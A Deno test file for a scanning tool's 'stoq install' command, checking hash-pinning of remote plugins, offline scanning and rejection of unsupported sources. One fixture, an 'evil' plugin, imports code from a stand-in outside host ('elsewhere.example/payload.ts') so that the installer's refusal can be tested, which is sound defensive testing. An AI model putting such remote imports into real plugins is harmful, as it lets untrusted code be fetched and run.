/**
 * `stoq install`: remote plugins are downloaded and pinned once, then run from disk in the sandbox;
 * scans never fetch plugin code.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { PluginNotFoundError, Stoq, StoqError } from "../mod.ts";
import { installPlugin } from "../core/cli/install.ts";
import { runCli } from "./_cli.ts";

const ROOT = fileURLToPath(new URL("..", import.meta.url));

/** A plugin served over loopback HTTP, as a plugin author would publish it. */
const SERVED: Record<string, string> = {
  "/plugins/greet/greet.stoq": [
    "[Core]",
    "Name = greet",
    "Module = mod",
    "Kinds = worker",
    "",
    "[Documentation]",
    "Description = Greets every payload",
    "",
    "[Install]",
    "Files = data/words.txt",
  ].join("\n"),
  "/plugins/greet/mod.ts": [
    `import { definePlugin } from "https://stoq.example/v1/plugin_api.ts";`,
    `import { shout } from "./lib/shout.ts";`,
    `export default definePlugin({`,
    `  setup: ({ dir }) => {`,
    `    const word = Deno.readTextFileSync(dir + "/data/words.txt").trim();`,
    `    return { scan: (payload) => ({ results: { greeting: shout(word), size: payload.content.length } }) };`,
    `  },`,
    `});`,
  ].join("\n"),
  "/plugins/greet/lib/shout.ts":
    `export const shout = (s: string): string => s.toUpperCase() + "!";`,
  "/plugins/greet/data/words.txt": "hello\n",
  "/plugins/evil/evil.stoq": "[Core]\nName = evil\nModule = mod\n",
  "/plugins/evil/mod.ts": `import "https://elsewhere.example/payload.ts";\nexport default {};`,
};

function serve() {
  const hits: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (req) => {
    const path = new URL(req.url).pathname;
    hits.push(path);
    const body = SERVED[path];
    return body === undefined ? new Response("not found", { status: 404 }) : new Response(body);
  });
  return {
    url: (path: string) => `http://127.0.0.1:${server.addr.port}${path}`,
    hits,
    close: () => server.shutdown(),
  };
}

Deno.test("install pins a remote plugin, which then scans from disk without the network", async () => {
  const server = serve();
  const dir = await Deno.makeTempDir({ prefix: "stoq-install-" });
  try {
    const target = await installPlugin(server.url("/plugins/greet/greet.stoq"), dir);
    assert.equal(target, join(dir, "greet"));
    const manifest = await Deno.readTextFile(join(target, "greet.stoq"));
    assert.match(
      manifest,
      /\[Installed\]\nSource = http:\/\/127\.0\.0\.1:\d+\/plugins\/greet\/greet\.stoq/,
    );
    assert.match(manifest, /mod\.ts [0-9a-f]{64}/);
    assert.match(manifest, /lib\/shout\.ts [0-9a-f]{64}/);
    assert.match(manifest, /data\/words\.txt [0-9a-f]{64}/);
    const mod = await Deno.readTextFile(join(target, "mod.ts"));
    assert.ok(mod.includes(new URL("../plugin_api.ts", import.meta.url).href), mod);
    assert.ok(mod.includes(`from "./lib/shout.ts"`), mod);

    await server.close();
    const hitsBefore = server.hits.length;
    const stoq = await Stoq.create({
      baseDir: dir,
      pluginDirList: [dir],
      alwaysDispatch: ["greet"],
      logSinks: [],
    });
    try {
      const response = (await stoq.scan("abc")).toJSON();
      assert.deepEqual(response.errors, []);
      assert.deepEqual(response.results[0].workers.greet, { greeting: "HELLO!", size: 3 });
    } finally {
      await stoq.close();
    }
    assert.equal(server.hits.length, hitsBefore);

    await assert.rejects(
      installPlugin(join(target, "greet.stoq"), dir),
      (err: Error) =>
        err instanceof StoqError && /already exists \(use --upgrade/.test(err.message),
    );
  } finally {
    await server.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("install refuses a plugin that imports code from another host", async () => {
  const server = serve();
  const dir = await Deno.makeTempDir({ prefix: "stoq-install-" });
  try {
    await assert.rejects(
      installPlugin(server.url("/plugins/evil/evil.stoq"), dir),
      /imports "https:\/\/elsewhere\.example\/payload\.ts"; only relative imports/,
    );
    assert.deepEqual([...Deno.readDirSync(dir)], [], "nothing half-installed");
  } finally {
    await server.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("a remote plugin is never fetched at scan time", async () => {
  const server = serve();
  try {
    const stoq = await Stoq.create({
      baseDir: ROOT + "tests",
      pluginDirList: [],
      alwaysDispatch: [],
      logSinks: [],
    });
    try {
      await assert.rejects(
        stoq.loadPlugin(server.url("/plugins/greet/greet.stoq")),
        (err: Error) =>
          err instanceof PluginNotFoundError &&
          /install it first with `stoq install/.test(err.message),
      );
    } finally {
      await stoq.close();
    }
    assert.deepEqual(server.hits, []);
  } finally {
    await server.close();
  }
});

Deno.test("stoq install copies a local plugin folder and says where", async () => {
  const dir = await Deno.makeTempDir({ prefix: "stoq-install-" });
  try {
    const output = await runCli(["install", join(ROOT, "plugins", "hash"), "--install_dir", dir]);
    assert.equal(output.code, 0, output.stderr);
    assert.equal(
      output.stdout.trim(),
      `Successfully installed ${join(ROOT, "plugins", "hash")} into ${join(dir, "hash")}`,
    );
    assert.ok(Deno.statSync(join(dir, "hash", "hash.stoq")).isFile);
    // The copy works where it is: its import of the plugin API now points at this stoq's.
    const stoq = await Stoq.create({
      baseDir: dir,
      pluginDirList: [dir],
      alwaysDispatch: ["hash"],
      logSinks: [],
    });
    try {
      const response = (await stoq.scan("abc")).toJSON();
      assert.equal(
        (response.results[0].workers.hash as { md5: string }).md5,
        "900150983cd24fb0d6963f7d28e17f72",
      );
      assert.ok(stoq.listPlugins().hash.manifest.startsWith(dir));
    } finally {
      await stoq.close();
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("install explains what to give instead of a jsr: or npm: reference", async () => {
  for (const source of ["jsr:@someone/plugin", "npm:some-plugin"]) {
    await assert.rejects(
      installPlugin(source, "/nonexistent"),
      (err: Error) =>
        err instanceof StoqError &&
        /give the https: URL of the plugin's \.stoq manifest/.test(err.message),
    );
  }
});
